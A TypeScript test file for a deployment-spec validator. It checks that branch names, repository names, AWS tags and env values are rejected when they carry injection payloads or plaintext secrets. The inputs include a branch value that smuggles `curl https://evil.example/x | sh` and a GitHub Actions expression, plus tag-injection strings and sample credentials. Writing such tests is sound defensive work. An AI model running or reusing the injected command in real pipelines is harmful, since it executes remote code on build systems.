/**
 * Issue 12, sections 2 and 3 at the spec line: branch and repository names by git's and
 * GitHub's rules, AWS tag rules, text another tool would evaluate (INN070) and secrets in the
 * spec (INN071). Each case asserts the code, the path and the line, and that the spec does not
 * compile (no model is built from it).
 */
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { describe, expect, it } from 'vitest';
import { formatPath } from '../../src/diagnostics/diagnostic.js';
import { compile } from '../../src/pipeline.js';
import { branchProblem, githubRepositoryProblem, tagKeyProblem, tagValueProblem } from '../../src/schema/formats.js';
import { base, diagnose, show, textAt } from './helpers.js';

/** The one diagnostic with this code, and where it points. */
function only(spec: string, code: string) {
  const diags = diagnose(spec);
  const hits = diags.filter((d) => d.code === code);
  expect(hits.length, show(diags)).toBeGreaterThanOrEqual(1);
  return { hit: hits[0]!, all: diags };
}

const workload = (...envLines: string[]) => base('workloads:', '  api:', '    type: flask', '    env:', ...envLines.map((l) => `      ${l}`));

describe('delivery.branch follows git check-ref-format --branch', () => {
  const HOSTILE = `main'; curl https://evil.example/x | sh; echo '\${{ github.event.head_commit.message }}`;
  it('the issue\'s branch is refused at its line, before any workflow is written', () => {
    const spec = base().replace('  configRepository: my-org/myapp-config\n', `  configRepository: my-org/myapp-config\n  branch: ${JSON.stringify(HOSTILE)}\n`);
    const { hit } = only(spec, 'INN015');
    expect(formatPath(hit.path)).toBe('delivery.branch');
    expect(hit.line).toBe(13);
    expect(hit.message).toMatch(/must not contain a space \(git check-ref-format\)/);
    expect(compile(spec).artifacts).toEqual([]);
  });

  it('a branch git accepts but that holds "${{" is refused too (git allows $, { and })', () => {
    const spec = base().replace('  configRepository: my-org/myapp-config\n', '  configRepository: my-org/myapp-config\n  branch: "main${{github.token}}"\n');
    const { hit } = only(spec, 'INN015');
    expect(hit.message).toMatch(/GitHub Actions would evaluate it/);
    expect(hit.line).toBe(13);
  });

  // Each row: a name and whether git accepts it as a branch. Checked against git itself below.
  const ROWS: [string, boolean][] = [
    ['main', true], ['release/1.2', true], ['feature/a+b', true], ['a]b', true], ['!x', true], ["o'neil", true], ['a;b', true], ['$x', true], ['ünïcode', true], ['@x', true], ['a@b', true],
    ['', false], ['a b', false], ['a~b', false], ['a^b', false], ['a:b', false], ['a?b', false], ['a*b', false], ['a[b', false], ['a\\b', false],
    ['a\u0000b', false], ['a\tb', false], ['a\u007fb', false], ['a\nb', false], ['-x', false], ['HEAD', false], ['@', false], ['/a', false], ['a/', false], ['a//b', false],
    ['a..b', false], ['a@{b', false], ['a.', false], ['.a', false], ['a/.b', false], ['a.lock', false], ['a.lock/b', false],
  ];
  it.each(ROWS)('%j: accepted = %s', (name, ok) => {
    expect(branchProblem(name) === undefined).toBe(ok);
  });

  // git's own verdict for the same names (NUL cannot be passed as an argument).
  const git = (() => {
    try {
      execFileSync('git', ['--version'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();
  it.skipIf(!git)('agrees with `git check-ref-format --branch` on every row', () => {
    // "@": git accepts refs/heads/@ (its rule 9 is about a whole refname); innovate refuses it, as "@" alone means HEAD.
    const disagree = ROWS.filter(([n]) => !n.includes('\u0000') && n !== '' && n !== '@').filter(([name]) => {
      let gitOk = true;
      try {
        execFileSync('git', ['check-ref-format', '--branch', name], { cwd: tmpdir(), stdio: 'ignore' });
      } catch {
        gitOk = false;
      }
      return gitOk !== (branchProblem(name) === undefined);
    });
    expect(disagree).toEqual([]);
  });
});

describe('repository names follow GitHub\'s rules', () => {
  it.each([
    ['my-org/app', true], ['My-Org/app.js_2', true], ['a/b', true], [`${'o'.repeat(39)}/x`, true], [`o/${'n'.repeat(100)}`, true],
    [`${'o'.repeat(40)}/x`, false], ['-org/x', false], ['org-/x', false], ['o--rg/x', false], ['org/.', false], ['org/..', false], ['org/app.git', false], [`o/${'n'.repeat(101)}`, false], ['org/a/b', false], ["org/it's", false],
  ])('%j: accepted = %s', (repo, ok) => {
    expect(githubRepositoryProblem(repo) === undefined).toBe(ok);
  });

  it('a bad owner is reported at the field', () => {
    const spec = base().replace('appRepository: my-org/myapp', 'appRepository: my--org/myapp');
    const { hit } = only(spec, 'INN015');
    expect(formatPath(hit.path)).toBe('delivery.appRepository');
    expect(hit.line).toBe(11);
    expect(hit.message).toMatch(/GitHub account names/);
  });
});

describe('tags follow AWS\'s rules at the spec line', () => {
  const tagged = (...lines: string[]) => base().replace('  costCenter: cc-0000\n', `  costCenter: cc-0000\n  tags:\n${lines.map((l) => `    ${l}\n`).join('')}`);
  it.each([
    ['a comma that would inject tags into the ALB annotation', 'application: "web,environment=staging,owner=mallory"', /"," is not allowed/],
    ['NUL', 'application: "web\\0"', /U\+0000 is not allowed/],
    ['a right-to-left override', 'application: "web\\u202Egpj.exe"', /U\+202E is not allowed/],
    ['the reserved aws: prefix in a value', 'application: "AWS:web"', /aws:/],
    ['a value over 256 characters', `application: "${'x'.repeat(257)}"`, /at most 256/],
    ['white space the annotation would trim', 'application: "web "', /white space/],
  ])('a value with %s is refused (INN015 at the value)', (_name, line, message) => {
    const { hit } = only(tagged(line), 'INN015');
    expect(formatPath(hit.path)).toBe('metadata.tags.application');
    expect(hit.line).toBe(8);
    expect(hit.message).toMatch(message);
  });

  it.each([
    ['the reserved aws: prefix', '"aws:createdBy": x', /aws:/],
    ['"=" (the annotation splits at it)', '"team=x": y', /"="/],
    ['a newline', '"a\\nb": y', /U\+000A/],
    ['a key over 128 characters', `${'k'.repeat(129)}: y`, /at most 128/],
  ])('a key with %s is refused (INN015 at the key)', (_name, line, message) => {
    const spec = tagged(line);
    const { hit } = only(spec, 'INN015');
    expect(hit.line).toBe(8);
    expect(hit.column).toBe(5);
    expect(hit.message).toMatch(message);
  });

  it('owner and costCenter are tag values too', () => {
    const spec = base().replace('owner: platform-team', 'owner: "team,owner=mallory"');
    const { hit } = only(spec, 'INN015');
    expect(formatPath(hit.path)).toBe('metadata.owner');
    expect(hit.line).toBe(5);
  });

  it('what AWS accepts passes: letters of any script, spaces inside, _ . : / = + - @', () => {
    expect(tagValueProblem('Équipe Données/paris+1 @x=y')).toBeUndefined();
    expect(tagKeyProblem('cost:team/owner_1')).toBeUndefined();
    expect(tagValueProblem('')).toBeUndefined();
    expect(diagnose(tagged('"team name": "Équipe Données"', 'app.kubernetes.io/part-of: web')).filter((d) => d.severity === 'error')).toEqual([]);
  });
});

describe('text another tool would evaluate (INN070)', () => {
  it('"${{" in an env value is refused at its line', () => {
    const spec = workload('GREETING: "${{ secrets.AWS_KEY }}"');
    const { hit } = only(spec, 'INN070');
    expect(formatPath(hit.path)).toBe('workloads.api.env.GREETING');
    expect(hit.line).toBe(17);
    expect(textAt(spec, hit.line, hit.column)).toMatch(/^"\$\{\{/);
  });

  it('a CloudFormation dynamic reference in a secret description is refused', () => {
    const spec = base('security:', '  secrets:', '    db:', '      description: "{{resolve:secretsmanager:prod/master:SecretString:password}}"');
    const { hit } = only(spec, 'INN070');
    expect(formatPath(hit.path)).toBe('security.secrets.db.description');
    expect(hit.line).toBe(16);
    expect(hit.message).toMatch(/CloudFormation dynamic reference/);
  });

  it('in an environment override, the finding points at the override', () => {
    const spec = base('workloads:', '  api: { type: flask }').replace(
      '  staging: { accountId: "222222222222", region: us-east-1 }',
      '  staging:\n    accountId: "222222222222"\n    region: us-east-1\n    overrides: { workloads: { api: { env: { X: "${{ github.token }}" } } } }',
    );
    const { hit } = only(spec, 'INN070');
    expect(hit.line).toBe(12);
    expect(hit.environments).toEqual(['staging']);
  });
});

describe('secrets never pass through the spec (INN071)', () => {
  it('the issue\'s env: both values are refused at their lines, with how to reference a secret', () => {
    const spec = workload('DATABASE_PASSWORD: S3cr3t-Passw0rd!', 'AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'LOG_LEVEL: debug');
    const hits = diagnose(spec).filter((d) => d.code === 'INN071');
    expect(hits.map((d) => [formatPath(d.path), d.line])).toEqual([
      ['workloads.api.env.DATABASE_PASSWORD', 17],
      ['workloads.api.env.AWS_SECRET_ACCESS_KEY', 18],
    ]);
    expect(hits[0]!.hint).toMatch(/security\.secrets/);
    expect(hits[0]!.hint).toMatch(/workloads\.api\.secrets\.DATABASE_PASSWORD: \{ secret: <secret>, key: <json key> \}/);
    expect(compile(spec).artifacts).toEqual([]);
  });

  it.each([
    ['a high-entropy value under a harmless name', 'SIGNING: Zk9xQ2x3UXJ0eVpQbG1uT3B4c1R1dlc'],
    ['an AWS access key id', 'AWS_ACCESS_KEY_ID: AKIAIOSFODNN7EXAMPLE'],
    ['a password in a connection string', 'DATABASE_URL: "postgres://app:hunter2@db.internal:5432/app"'],
    ['a GitHub token', `GH: gh${'p'}_${'a1B2'.repeat(9)}`],
    ['a short password', 'DB_PASS: hunter2'],
  ])('%s is refused', (_name, line) => {
    const { hit } = only(workload(line), 'INN071');
    expect(hit.line).toBe(17);
  });

  it.each([
    ['LOG_LEVEL: debug'], ['SECRET_NAME: app/db'], ['TOKEN_URL: https://auth.example/token'], ['API_KEY_HEADER_ENABLED: "true"'], ['JWT_SECRET: ""'],
    ['DB_PASSWORD_FILE: /var/run/secrets/db'], ['ENCRYPTION_KEY: arn:aws:kms:us-east-1:111111111111:alias/app'], ['COMMIT: 0123456789abcdef0123456789abcdef01234567'], ['PWD: /app'],
  ])('%s is not a secret', (line) => {
    expect(diagnose(workload(line)).filter((d) => d.code === 'INN071')).toEqual([]);
  });

  it('database.password says where passwords belong, not "unknown key"', () => {
    const spec = base('database:', '  password: S3cr3t-Passw0rd!');
    const diags = diagnose(spec);
    expect(diags.filter((d) => d.code === 'INN011')).toEqual([]);
    const { hit } = only(spec, 'INN071');
    expect(formatPath(hit.path)).toBe('database.password');
    expect([hit.line, hit.column]).toEqual([14, 3]);
    expect(hit.hint).toMatch(/Secrets Manager/);
    expect(hit.hint).toMatch(/kind: database-user/);
  });

  it('a misspelt known key is still a typo (INN011 with did-you-mean), not a credential', () => {
    const spec = base('workloads:', '  api:', '    type: flask', '    secret: {}');
    expect(diagnose(spec).map((d) => d.code)).toContain('INN011');
  });

  it('a secret-looking tag and a private key anywhere are refused', () => {
    const spec = base('security:', '  secrets:', '    x:', '      description: "-----BEGIN RSA PRIVATE KEY-----"').replace('  costCenter: cc-0000\n', '  costCenter: cc-0000\n  tags:\n    api_token: abcdef123456\n');
    expect(diagnose(spec).filter((d) => d.code === 'INN071').map((d) => formatPath(d.path))).toEqual(['metadata.tags.api_token', 'security.secrets.x.description']);
  });
});
